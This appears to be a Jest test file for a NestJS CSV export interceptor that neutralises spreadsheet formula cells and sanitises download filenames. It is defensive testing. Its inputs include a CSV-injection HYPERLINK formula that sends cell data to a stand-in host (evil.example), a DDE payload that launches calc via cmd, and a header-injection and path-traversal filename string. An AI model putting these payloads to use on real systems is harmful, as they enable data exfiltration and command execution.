import type { ExecutionContext } from '@nestjs/common';
import { parse } from 'csv-parse/sync';
import { lastValueFrom, of } from 'rxjs';
import { attachmentOf, CsvResponseInterceptor, neutralised, rowsToCsv, withCsvFilename, withCsvRows } from './csv-response.interceptor.js';

describe('rowsToCsv', () => {
  const cellsOf = (csv: string): string[][] => parse(csv, { relax_column_count: true });

  it('prefixes a quote to every text cell a spreadsheet would run as a formula, and quotes it', () => {
    const texts = ['=HYPERLINK("http://evil.example/?x="&A1,"Click for refund")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '\tleading tab', '\rleading CR'];
    const sut = rowsToCsv(texts.map((text) => ({ text })));

    const lines = sut.split('\r\n');
    expect(lines[1]).toBe('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for refund"")"');
    expect(lines[3]).toBe('"\'-2+3"');
    expect(cellsOf(sut).slice(1).map(([cell]) => cell)).toEqual(texts.map((text) => `'${text}`));
  });

  it('keeps numbers numeric, negative ones included, and leaves harmless text alone', () => {
    const sut = rowsToCsv([{ ratio: -0.5, count: 3, label: 'refund late', asText: '-0.5', ok: true, none: null }]);
    expect(sut).toBe('ratio,count,label,asText,ok,none\r\n-0.5,3,refund late,-0.5,true,\r\n');
  });

  it('writes booleans as true and false, so false is not read as an empty (unknown) cell', () => {
    const sut = rowsToCsv([{ labelled: false, repeat: true, notForHere: null }, { labelled: true, repeat: false }]);
    expect(sut).toBe('labelled,repeat,notForHere\r\nfalse,true,\r\ntrue,false,\r\n');
  });

  it('neutralises header cells and nested values as well', () => {
    const sut = cellsOf(rowsToCsv([{ '=cmd': 'x', nested: ['=1+1'] }]));
    expect(sut[0]).toEqual(["'=cmd", 'nested']);
    expect(sut[1]).toEqual(['x', '["=1+1"]']);
    expect(neutralised('@x')).toBe("'@x");
  });
});

describe('attachmentOf', () => {
  it('names the file after a title: lower case, accents dropped, anything else a single hyphen', () => {
    expect(attachmentOf('Card delivery: why "late"?')).toBe('attachment; filename="card-delivery-why-late.csv"');
    expect(attachmentOf('steps')).toBe('attachment; filename="steps.csv"');
  });

  it('keeps the letters of any script in filename* for the clients that read it', () => {
    expect(attachmentOf('Études de délai')).toBe(`attachment; filename="etudes-de-delai.csv"; filename*=UTF-8''${encodeURIComponent('études-de-délai')}.csv`);
    expect(attachmentOf('Доставка карт')).toBe(`attachment; filename="download.csv"; filename*=UTF-8''${encodeURIComponent('доставка-карт')}.csv`);
  });

  it('cannot be steered out of the quoted name or into a path, and stays short', () => {
    const sut = attachmentOf('../../etc/passwd"; filename=evil.exe\r\nx-injected: 1');
    expect(sut).toBe('attachment; filename="etc-passwd-filename-evil-exe-x-injected-1.csv"');
    expect(attachmentOf('a'.repeat(500))).toBe(`attachment; filename="${'a'.repeat(80)}.csv"`);
    expect(attachmentOf('!!!')).toBe('attachment; filename="download.csv"');
  });
});

describe('CsvResponseInterceptor', () => {
  async function answer(body: unknown, query: Record<string, unknown> = { format: 'csv' }) {
    const headers: Record<string, string> = {};
    const http = { getRequest: () => ({ path: '/v1/metrics/countermeasures/3/impact', query, headers: {} }), getResponse: () => ({ setHeader: (name: string, value: string) => (headers[name] = value) }) };
    const context = { switchToHttp: () => http } as unknown as ExecutionContext;
    const sent = await lastValueFrom(new CsvResponseInterceptor().intercept(context, { handle: () => of(body) }));
    return { sent, headers };
  }

  it('writes an answer that says how it is written as rows in CSV, and leaves its JSON alone', async () => {
    const record = withCsvRows({ before: { count: 2 }, verdict: 'reduced' }, [{ beforeCount: 2, verdict: 'reduced' }]);
    const csv = await answer(record);
    expect(csv.sent).toBe('\uFEFFbeforeCount,verdict\r\n2,reduced\r\n');
    expect(csv.headers).toEqual({ 'content-type': 'text/csv; charset=utf-8', 'content-disposition': 'attachment; filename="impact.csv"' });
    const json = await answer(record, {});
    expect(JSON.stringify(json.sent)).toBe('{"before":{"count":2},"verdict":"reduced"}');
    expect(json.headers).toEqual({});
  });

  it('names the file as the answer asks, and keeps a record without rows JSON', async () => {
    const named = await answer(withCsvFilename({ rows: [{ ok: false }] }, 'study 3 Délais'));
    expect(named.sent).toBe('\uFEFFok\r\nfalse\r\n');
    expect(named.headers['content-disposition']).toBe(`attachment; filename="study-3-delais.csv"; filename*=UTF-8''study-3-d%C3%A9lais.csv`);
    expect(JSON.stringify(withCsvFilename({ rows: [] }, 'x'))).toBe('{"rows":[]}');
    expect(await answer({ id: 3 })).toEqual({ sent: { id: 3 }, headers: {} });
  });
});
